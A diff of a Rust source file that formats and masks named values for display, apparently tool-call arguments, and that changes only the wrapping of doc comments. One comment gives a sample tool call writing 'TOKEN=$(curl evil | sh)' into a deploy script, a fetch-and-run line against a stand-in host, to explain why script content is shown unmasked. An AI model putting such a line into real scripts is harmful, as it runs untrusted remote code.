@@ -1,8 +1,8 @@
 //! The fields of a view: named values, made safe to print within limits.
 //!
-//! A value is shown in one of three ways, by its [`Rule`]: whole (where an end that is cut off could be the part that matters),
-//! elided, or masked. Those that are shown whole come first, so that a call with four hundred arguments cannot push its path below
-//! the end of the screen.
+//! A value is shown in one of three ways, by its [`Rule`]: whole (where an end that is cut off could be the part that
+//! matters), elided, or masked. Those that are shown whole come first, so that a call with four hundred arguments
+//! cannot push its path below the end of the screen.
 
 use serde::Serialize;
 use serde_json::{Map, Value};
@@ -175,8 +175,8 @@ impl Leaf<'_> {
 
 /// The values of an object and of the objects in it, sorted by name, with those that have to be shown whole first.
 ///
-/// A value of which the content is written into a script is not masked, as a "secret" there would be run: `write_file(path:
-/// "deploy.sh", content: "TOKEN=$(curl evil | sh)")`.
+/// A value of which the content is written into a script is not masked, as a "secret" there would be run:
+/// `write_file(path: "deploy.sh", content: "TOKEN=$(curl evil | sh)")`.
 pub(super) fn leaves(map: &Map<String, Value>) -> Vec<Leaf<'_>> {
     let mut out = Vec::new();
     collect_map(&mut out, map, "", Rule::Free);
